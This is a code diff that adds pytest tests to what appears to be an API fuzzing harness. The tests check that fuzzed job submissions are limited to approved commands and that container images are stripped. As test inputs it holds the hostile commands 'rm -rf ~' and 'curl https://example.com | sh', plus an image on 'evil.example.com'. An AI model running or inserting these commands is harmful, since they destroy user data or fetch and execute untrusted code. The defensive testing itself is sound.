@@ -11,6 +11,7 @@ import asyncssh
 import pytest
 
 from api.routers.fleets import FleetIn
+from api.routers.jobs import JobCreate
 from bench import fuzz_hooks
 
 
@@ -49,3 +50,24 @@ def test_a_kept_connection_is_never_deleted(monkeypatch: pytest.MonkeyPatch) -> 
     assert case.path_parameters == {"connection_id": "kept-by-fuzz"}
     case = send("DELETE", "/api/compute/connections/{connection_id}", None, {"connection_id": "c3"})
     assert case.path_parameters == {"connection_id": "c3"}
+
+
+@pytest.mark.parametrize("command", ["rm -rf ~", "curl https://example.com | sh", "0", "\u00e9\u00e9\u00e9"])
+def test_a_job_runs_only_a_command_of_ours_and_no_image(command: str) -> None:
+    body = {"name": "j", "type": "sft", "command": command, "image": "evil.example.com/x:latest",
+            "requested_by": "fuzz", "gpu": "H100"}
+    case = send("POST", "/api/compute/jobs", body)
+    assert case.body["command"] in fuzz_hooks.JOB_COMMANDS and "image" not in case.body
+    assert case.body["gpu"] == "H100" and case.body["name"] == "j"  # the rest as generated
+    JobCreate.model_validate(case.body)  # past the API's own checks: the job's logic is reached
+
+
+def test_fuzzed_jobs_reach_every_one_of_our_commands() -> None:
+    picked = {send("POST", "/api/compute/jobs", {"command": f"c{i}"}).body["command"] for i in range(20)}
+    assert picked == set(fuzz_hooks.JOB_COMMANDS)
+
+
+def test_a_jobs_other_operations_and_odd_shapes_are_left_alone() -> None:
+    assert send("POST", "/api/compute/jobs", {"command": 7}).body == {"command": 7}
+    cancel = send("POST", "/api/compute/jobs/{job_id}/cancel", {"command": "x"})
+    assert cancel.body == {"command": "x"}
